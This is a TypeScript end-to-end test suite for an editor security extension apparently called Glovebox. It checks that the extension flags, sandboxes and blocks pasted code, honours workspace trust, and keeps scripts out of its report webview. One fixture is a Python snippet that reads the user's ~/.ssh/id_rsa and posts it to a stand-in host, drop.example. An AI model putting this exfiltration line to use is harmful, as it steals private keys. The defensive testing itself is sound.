/** The extension in the workbench that people have, over a browser: what is told, what runs, and what does not. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { command, NO_WORKBENCH, openWorkbench, paste, type Workbench } from './workbench.fixture.ts';

if (NO_WORKBENCH !== undefined) console.log(`skipped: ${NO_WORKBENCH}`);

/** Pictures are kept where caches are, and where the README shows them when they are asked for: `npm run pictures`. */
const IMAGES =
  process.env.GLOVEBOX_WRITE_IMAGES === '1'
    ? join(import.meta.dirname, '../../images')
    : join(import.meta.dirname, '../../../../node_modules/.cache/glovebox-workbench');
const UPLOAD = `import pathlib
import requests

def settings():
    return {"retries": 3}

key = pathlib.Path.home().joinpath(".ssh/id_rsa").read_text()
requests.post("https://drop.example/k", data=key, timeout=5)
`;
const FIXED = 'def settings():\n    return {"retries": 3}\n\nprint(settings())\n';
const SETTINGS = { 'glovebox.run': 'never', 'security.workspace.trust.enabled': false };
/** Longer than what follows a save takes. */
const SETTLED_MS = 3_000;
const PATIENCE_MS = 40_000;

const status = (page: Page) => page.locator('.statusbar-item[id*="glovebox"]');
const rows = (page: Page) => page.locator('.pane-body .monaco-list-row');
const squiggles = (page: Page) => page.locator('.monaco-editor .squiggly-error');

let workbench: Workbench;
let page: Page;
beforeAll(async () => {
  if (NO_WORKBENCH !== undefined) return;
  workbench = await openWorkbench({ ...SETTINGS, 'workbench.colorTheme': 'Dark Modern' });
  const folder = join(workbench.base, 'project');
  mkdirSync(folder);
  writeFileSync(join(folder, 'sync.py'), FIXED);
  page = await workbench.open(folder, 'sync.py');
}, 700_000);
vi.setConfig({ testTimeout: 90_000 });
afterAll(() => workbench?.close());
afterEach(({ task }) => {
  if (task.result?.state === 'fail')
    return page?.screenshot({ path: join(workbench.base, '..', `glovebox-${task.id}.png`) });
});

describe.skipIf(NO_WORKBENCH !== undefined)('in the workbench', () => {
  it('a pasted upload is underlined, in the status bar and in the list, and nothing interrupts', async () => {
    await page.locator('.activitybar a[aria-label^="Glovebox"]').click({ force: true });
    await paste(page, UPLOAD);
    await status(page)
      .filter({ hasText: /block 100 \(read\)/ })
      .waitFor();
    await squiggles(page).first().waitFor();
    await rows(page).filter({ hasText: 'line 8, secret-sent' }).waitFor();
    expect(await page.locator('.notification-toast').count()).toBe(0);
    await rows(page).filter({ hasText: 'line 8, secret-sent' }).click();
    await page.locator('[id="status.editor.selection"]', { hasText: 'Ln 8' }).waitFor();
    await page.screenshot({ path: join(IMAGES, 'editor-dark.png') });
  });

  it('once it is corrected all of that is gone', async () => {
    await paste(page, FIXED);
    await status(page)
      .filter({ hasText: /allow 0 \(read\)/ })
      .waitFor();
    await expect.poll(() => squiggles(page).count()).toBe(0);
    expect(await rows(page).count()).toBe(0);
    expect(workbench.runs()).toBe(0);
  });

  it('a run in the sandbox is told with what it did, and its block interrupts once', async () => {
    await paste(page, UPLOAD);
    await status(page).filter({ hasText: 'block 100 (read)' }).waitFor();
    await command(page, 'Glovebox: Run in Sandbox');
    await status(page)
      .filter({ hasText: /block 100$/ })
      .waitFor();
    await rows(page).filter({ hasText: 'id_rsa' }).first().waitFor();
    expect(workbench.runs()).toBeGreaterThan(0);
    const toast = page.locator('.notification-toast');
    await toast.filter({ hasText: 'Glovebox blocks sync.py' }).waitFor();
    expect(await toast.count()).toBe(1);
  });

  it('the report opens beside it, and in its page nothing but its own script runs', async () => {
    await page.locator('.notification-toast .monaco-button', { hasText: 'Open Report' }).click();
    const report = await reportOf(page);
    await report.locator('.decision', { hasText: 'Block' }).waitFor();
    expect(await report.locator('section > h2').allTextContents()).toContainEqual(expect.stringMatching(/^Findings/));
    expect(await report.locator('.finding').count()).toBeGreaterThan(0);
    expect(await intrude(report)).toEqual({ inline: false, evaluated: false, fetched: false, style: false });
    await page.screenshot({ path: join(IMAGES, 'report-dark.png') });
  });

  it('in a light theme everything is light', async () => {
    await command(page, 'Toggle between Light/Dark Themes');
    await page.locator('.monaco-workbench.vs').waitFor();
    // The page is drawn anew, in another frame.
    await expect.poll(() => reportOf(page).then(brightness), { timeout: PATIENCE_MS }).toBeGreaterThan(200);
    await page.screenshot({ path: join(IMAGES, 'report-light.png') });
  });
});

describe.skipIf(NO_WORKBENCH !== undefined)('accepting', () => {
  it('asks why and until when, signs with the key, and the finding is gone from the list', async () => {
    const folder = join(workbench.base, 'project');
    const key = join(workbench.base, '.ssh/id_ed25519');
    mkdirSync(dirname(key));
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]);
    execFileSync('git', ['init', '-q', folder]);
    const trust = ['override', 'trust', `${key}.pub`, folder, '--name', 'ada@example.com', '--key', key];
    execFileSync(process.execPath, [join(workbench.base, 'bin/glovebox'), ...trust]);
    await paste(page, 'print(len(open("/home/ada/.ssh/id_rsa").read()))\n');
    const row = rows(page).filter({ hasText: 'line 1, secret-read' });
    await status(page).filter({ hasText: 'review 52 (read)' }).waitFor();
    await row.click();
    await row.locator('a[aria-label^="Accept with a Reason"]').click();
    const input = page.locator('.quick-input-widget input').first();
    await input.fill('our own test server');
    await input.press('Enter');
    await page.locator('.quick-input-widget', { hasText: 'Until when' }).waitFor();
    await input.press('Enter');
    await row.waitFor({ state: 'detached' });
    expect(readFileSync(join(folder, '.glovebox/overrides.yaml'), 'utf8')).toContain('our own test server');
  });
});

describe.skipIf(NO_WORKBENCH !== undefined)('in a workspace that is not trusted', () => {
  const started = () => existsSync(join(workbench.base, 'started'));
  let before: number;

  it('what is pasted is told, nothing runs, and no program of the workspace is started', async () => {
    await page.close();
    workbench.set({ ...SETTINGS, 'security.workspace.trust.enabled': true });
    page = await workbench.open(stranger(), 'sync.py');
    await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor();
    before = workbench.runs();
    await status(page).filter({ hasText: 'allow 0 (read)' }).waitFor();
    await paste(page, UPLOAD);
    await squiggles(page).first().waitFor();
    await page.keyboard.press('Control+S');
    await page.locator('.tab.dirty').waitFor({ state: 'detached' });
    await page.waitForTimeout(SETTLED_MS);
    expect(await status(page).textContent()).toMatch(/block 100 \(read\)$/);
    expect({ runs: workbench.runs(), started: started() }).toEqual({ runs: before, started: false });
  });

  it('once it is trusted its own program is started, and a save runs what is saved', async () => {
    await command(page, 'Workspaces: Manage Workspace Trust');
    await page
      .locator('.workspace-trust-editor .trusted .monaco-button, .workspace-trust-buttons-row .monaco-button')
      .first()
      .click();
    await page.locator('.statusbar-item', { hasText: 'Restricted Mode' }).waitFor({ state: 'detached' });
    await expect.poll(started, { timeout: PATIENCE_MS }).toBe(true);
    await page.keyboard.press('Escape');
    await page.locator('.tab', { hasText: 'sync.py' }).click();
    await status(page).filter({ hasText: 'block 100 (read)' }).waitFor();
    await paste(page, `${UPLOAD}\n`);
    await page.keyboard.press('Control+S');
    await status(page)
      .filter({ hasText: /block 100$/ })
      .waitFor();
    expect(workbench.runs()).toBeGreaterThan(before);
  });

  /** A folder that brings a program of its own, and a setting that names another. */
  function stranger(): string {
    const folder = join(workbench.base, 'stranger');
    const own = join(folder, 'node_modules/glovebox/bin/glovebox.js');
    const program = `import { writeFileSync } from 'node:fs';
writeFileSync(${JSON.stringify(join(workbench.base, 'started'))}, '');
await import(${JSON.stringify(join(workbench.base, 'bin/glovebox'))});
`;
    for (const file of [own, join(folder, 'tools/own.mjs')]) {
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, program);
    }
    mkdirSync(join(folder, '.vscode'));
    const settings = { 'glovebox.path': join(folder, 'tools/own.mjs'), 'glovebox.run': 'save' };
    writeFileSync(join(folder, '.vscode/settings.json'), JSON.stringify(settings));
    writeFileSync(join(folder, 'node_modules/glovebox/package.json'), '{ "type": "module" }');
    writeFileSync(join(folder, 'sync.py'), FIXED);
    return folder;
  }
});

/** The page inside of the two frames that a webview is. */
async function reportOf(page: Page): Promise<Frame> {
  const outer = await page.locator('iframe.webview').elementHandle();
  const inner = await (await outer?.contentFrame())?.waitForSelector('#active-frame');
  const frame = await inner?.contentFrame();
  if (frame == null) throw new Error('no report');
  return frame;
}

/** Tries what a page must not do: a script and a style of its own, a text as code, a request. */
function intrude(report: Frame) {
  return report.evaluate(`(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.intruded = true';
    document.body.append(script);
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.body.append(style);
    // Tried later, because what a debugger evaluates is let evaluate.
    setTimeout('window.evaluated = true');
    await new Promise((resolve) => setTimeout(resolve, 200));
    const fetched = await fetch(location.origin).then(() => true, () => false);
    const result = {
      inline: window.intruded === true,
      evaluated: window.evaluated === true,
      fetched,
      style: getComputedStyle(document.body).outlineWidth === '7px',
    };
    script.remove();
    style.remove();
    return result;
  })()`);
}

/** Of the ground, from 0 to 255. */
async function brightness(report: Frame): Promise<number> {
  const color = await report.evaluate<string>('getComputedStyle(document.body).backgroundColor');
  const [red = 0, green = 0, blue = 0] = (/\d+(, \d+)*/.exec(color)?.[0] ?? '').split(', ').map(Number);
  return (red + green + blue) / 3;
}
